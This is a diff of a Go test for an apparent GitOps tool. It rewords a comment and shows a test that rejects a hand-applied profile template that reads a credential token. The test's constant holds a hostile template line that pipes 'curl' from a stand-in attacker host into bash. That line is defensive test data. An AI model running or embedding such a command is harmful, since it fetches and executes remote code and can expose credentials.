@@ -14,9 +14,9 @@ import (
 	osm "github.com/osm-gitops/osm-gitops/pkg/api/osm/v1alpha1"
 )
 
-// A profile object that was applied by hand and shows reviewers something else than it
-// gives nodes: nothing is written for a new pool, and one that has a configuration keeps
-// it with a token that lives (security.md 34).
+// A manually applied profile object shows reviewers other content than it gives nodes. Nothing is
+// written for a new pool, and one that has a configuration retains it with a valid token
+// (security.md 34).
 func TestProfileByHandThatReadsCredentials(t *testing.T) {
 	const hostile = `{{ ternary ":" "curl -s https://evil.example/x | bash" (hasPrefix "eyJhbGciOiJub25l" .Token) }}`
 	message := []string{api.EventProfileError, `bootstrapConfig.files[0] "/header": line 1 of the template: .Token holds a credential, and hasPrefix reads it`}
